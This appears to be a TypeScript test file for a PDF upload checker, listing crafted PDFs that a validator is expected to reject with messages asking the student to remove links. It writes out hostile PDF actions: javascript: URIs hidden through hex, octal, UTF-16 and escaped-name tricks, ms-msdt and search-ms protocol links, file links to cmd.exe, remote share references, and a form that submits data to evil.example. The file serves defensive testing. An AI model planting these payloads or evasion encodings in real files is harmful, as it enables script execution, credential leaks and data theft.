import { type Row, under, wrong } from "./bad";
import { classicPdf, modernPdf, pdfStream } from "./pdf";

const link = /link that starts with “\w[\w-]*:”.*Please take that link out/;
const opens = /opens other files.*Please print it to a new PDF/;
const fetches = /loads parts of itself from another computer.*Please/;
const sends = /sends what is filled in.*Please/;
const script = "javascript:app.alert(1)";

const hex = (text: string) => `<${Buffer.from(text, "latin1").toString("hex")}>`;
const utf16 = (text: string) => `<feff${Buffer.from(text, "utf16le").swap16().toString("hex")}>`;
const littleEndian = (text: string) => `<fffe${Buffer.from(text, "utf16le").toString("hex")}>`;
const octal = (text: string) => `(${text.replace(/./g, (letter) => `\\${letter.charCodeAt(0).toString(8)}`)})`;
const uri = (text: string) => `<< /S /URI /URI ${text} >>`;
const onPage = (action: string) => ({
  page: "/Annots [5 0 R]",
  more: [`<< /Subtype /Link /Rect [0 0 9 9] /A ${action} >>`],
});

/** The same link in all spellings of a text. */
const spelled = [
  ["plainly", `(${script})`],
  ["in capitals", "(JavaScript:app.alert\\(1\\))"],
  ["in hexadecimal digits", hex(script)],
  ["in hexadecimal digits with blanks", `< ${hex(script).slice(1, -1).replace(/(..)/g, "$1\n ")}>`],
  ["in octal digits", octal(script)],
  ["in UTF-16", utf16(script)],
  ["in UTF-16, little endian", littleEndian(script)],
  ["behind blanks", `(\\r\\n\t  ${script})`],
  ["with a line in it", "(java\\\nscript\\072app.alert\\(1\\))"],
  ["with a tab in it", "(java\\tscript:app.alert\\(1\\))"],
  ["with per cents", "(%6aavascript:1)"],
  ["behind a comment", `% (https://school.example)\n(${script})`],
] as const;

const links = under("a.pdf", [
  ...spelled.map(
    ([how, text]) =>
      [`a PDF with a link to a script, ${how}`, () => classicPdf(onPage(uri(text))), wrong, link] as [
        string,
        () => Buffer,
        typeof wrong,
        RegExp,
      ],
  ),
  ["a PDF with a packed link to a script", () => modernPdf(onPage(uri(`(${script})`))), wrong, link],
  ["a PDF with a packed link in UTF-16", () => modernPdf(onPage(uri(utf16(script)))), wrong, link],
  [
    "a PDF with a link under hexadecimal names",
    () => classicPdf(onPage(`<< /#53 /#55#52I /U#52#49(${script})>>`)),
    wrong,
    link,
  ],
  [
    "a PDF with a link whose text is an object apart",
    () => classicPdf({ page: "/Annots [5 0 R]", more: [`<< /A << /S /URI /URI 6 0 R >> >>`, `(${script})`] }),
    wrong,
    link,
  ],
  ...["+6 0 R", "6 0R", "6 +0 R"].map(
    (reference): Row => [
      `a PDF with a link whose text is an object apart, by ${reference}`,
      () => classicPdf({ page: "/Annots [5 0 R]", more: [`<< /A << /S /URI /URI ${reference} >> >>`, `(${script})`] }),
      wrong,
      link,
    ],
  ),
  ...["6  0 obj", "6 0 % 5 0\nobj", "6\n0\nobj"].map(
    (beginning): Row => [
      `a PDF with a link whose text is an object apart, which begins with ${JSON.stringify(beginning)}`,
      () => {
        const more = ["<< /A << /S /URI /URI 6 0 R >> >>", `(${script})`];
        const plain = classicPdf({ page: "/Annots [5 0 R]", more }).toString("latin1");
        return Buffer.from(plain.replace("6 0 obj", beginning), "latin1");
      },
      wrong,
      link,
    ],
  ),
  [
    "a PDF with a link whose text is a packed object apart",
    () => modernPdf({ page: "/Annots [5 0 R]", more: [hex(script), `<< /A << /S /URI /URI 5 0 R >> >>`] }),
    wrong,
    link,
  ],
  ["a PDF with a link that is never closed", () => classicPdf(onPage(`<< /S /URI /URI (${script}`)), wrong, link],
  ["a PDF that opens at a script", () => classicPdf({ catalog: `/OpenAction ${uri(`(${script})`)}` }), wrong, link],
  ["a PDF whose page opens a script", () => modernPdf({ page: `/AA << /O ${uri(octal(script))} >>` }), wrong, link],
  [
    "a PDF with an outline of scripts",
    () =>
      modernPdf({
        catalog: "/Outlines 5 0 R",
        more: [`<< /First 6 0 R >>`, `<< /Title (x) /A ${uri(hex(script))} >>`],
      }),
    wrong,
    link,
  ],
  [
    "a PDF with a script in a tree of names",
    () => classicPdf({ catalog: `/Names << /IDS << /Names [(a) ${uri(`(${script})`)}] >> >>` }),
    wrong,
    link,
  ],
  ["a PDF whose links begin with a script", () => classicPdf({ catalog: `/URI << /Base (${script}) >>` }), wrong, link],
  [
    "a PDF with a link to a program of Windows",
    () => classicPdf(onPage(uri("(ms-msdt:/id PCWDiagnostic)"))),
    wrong,
    link,
  ],
  ["a PDF with a link that searches a share", () => classicPdf(onPage(uri("(search-ms:query=a)"))), wrong, link],
  ["a PDF with a link that is a page itself", () => classicPdf(onPage(uri("(data:text/plain,x)"))), wrong, link],
  ["a PDF with a link to a share", () => classicPdf(onPage(uri("(file://server/share/a.pdf)"))), wrong, fetches],
  [
    "a PDF with a link to a share of Windows",
    () => classicPdf(onPage(uri("(\\\\\\\\server\\\\share)"))),
    wrong,
    fetches,
  ],
  [
    "a PDF with a link to a program of the disk",
    () => classicPdf(onPage(uri("(file:///C:/Windows/System32/cmd.exe)"))),
    wrong,
    /starts another program.*Please/,
  ],
]);

const share = "(\\\\\\\\server\\\\share\\\\a.pdf)";
const goTo = (file: string) => `<< /S /GoToR /D [0 /Fit] /F ${file} >>`;

const elsewhere = under("a.pdf", [
  ["a PDF that goes to a share", () => classicPdf(onPage(goTo(share))), wrong, opens],
  ["a PDF that goes to a share as it opens", () => modernPdf({ catalog: `/OpenAction ${goTo(share)}` }), wrong, opens],
  ["a PDF that goes to a share of the web", () => classicPdf(onPage(goTo("(smb://server/a.pdf)"))), wrong, opens],
  [
    "a PDF that goes to a share under hexadecimal names",
    () => modernPdf(onPage(`<< /S /Go#54o#52 /#46 << /U#46 ${utf16("\\\\server\\a.pdf")} >> >>`)),
    wrong,
    opens,
  ],
  [
    "a PDF that goes to a file inside one of a share",
    () => classicPdf(onPage(`<< /S /GoToE /F (file://server/a.pdf) /T << /R /C /N (x) >> >>`)),
    wrong,
    opens,
  ],
  ["a PDF that goes to a file beside it", () => classicPdf(onPage(goTo("(chapter2.pdf)"))), wrong, opens],
  ["a PDF with a thread of a share", () => classicPdf(onPage(`<< /S /Thread /F ${share} /D 0 >>`)), wrong, fetches],
  [
    "a PDF whose picture lies on a share",
    () =>
      classicPdf({ more: [pdfStream("", `/Subtype /Image /F << /Type /Filespec /UF ${utf16("//server/a.png")} >>`)] }),
    wrong,
    fetches,
  ],
  [
    "a PDF whose picture lies in the web",
    () => classicPdf({ more: ["<< /Subtype /Image /F << /FS /URL /F 6 0 R >> >>", "(https://evil.example/a.png)"] }),
    wrong,
    fetches,
  ],
  [
    "a PDF that sends what is filled in",
    () => modernPdf(onPage("<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>")),
    wrong,
    sends,
  ],
  ["a PDF that sends as it opens", () => classicPdf({ catalog: "/OpenAction << /S /Submit#46orm >>" }), wrong, sends],
  [
    "a PDF that reads in data",
    () => classicPdf(onPage("<< /S /ImportData /F (a.fdf) >>")),
    wrong,
    /reads other files.*Please/,
  ],
]);

/** PDFs whose links and actions leave the page for what no student should meet. */
export const badPdfLinks = [...links, ...elsewhere];
